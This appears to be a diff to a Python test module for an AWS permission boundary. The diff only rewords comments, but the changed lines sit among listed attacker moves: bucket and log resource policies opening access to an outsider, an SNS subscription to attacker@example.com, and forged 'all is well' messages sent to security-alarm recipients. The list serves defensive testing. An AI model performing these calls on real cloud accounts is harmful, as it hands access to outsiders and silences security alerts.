@@ -1,4 +1,4 @@
-"""What an attacker tries when the straight ways are closed: by other services, by tags, by shares, by quiet changes."""
+"""An attacker's indirect attempts: by other services, by tags, by sharing, by inconspicuous changes."""
 
 from tests.support.embedded.attacker import (
     ACCOUNT,
@@ -92,7 +92,7 @@ CLOUDFORMATION: list[Way] = [
     ("execution", "s3", "put_bucket_policy", {"Bucket": ASSETS, "Policy": DOCUMENT}),
     ("publish", "s3", "put_bucket_policy", {"Bucket": ASSETS, "Policy": DOCUMENT}),
 ]
-# -- let an outsider in, or copy to him, by ...
+# -- give an outsider access or copies, by ...
 OPENING: list[Way] = [
     (
         "execution",
@@ -181,7 +181,7 @@ OPENING: list[Way] = [
     ),
     ("execution", "logs", "put_resource_policy", {"policyName": "attacker", "policyDocument": DOCUMENT}),
 ]
-# -- make the evidence say less, by ...
+# -- weaken the evidence, by ...
 QUIET: list[Way] = [
     (
         "execution",
@@ -206,7 +206,7 @@ QUIET: list[Way] = [
         {"TopicArn": TOPIC, "AttributeName": "Policy", "AttributeValue": "{}"},
     ),
     ("execution", "sns", "subscribe", {"TopicArn": TOPIC, "Protocol": "email", "Endpoint": "attacker@example.com"}),
-    # Write what he likes to those who hear the security alarms, in their name.
+    # Send own texts to the recipients of the security alarms, in the name of these.
     *(
         (who, "sns", "publish", {"TopicArn": TOPIC, "Message": "all is well"})
         for who in ("cicd", "running", "verifying")
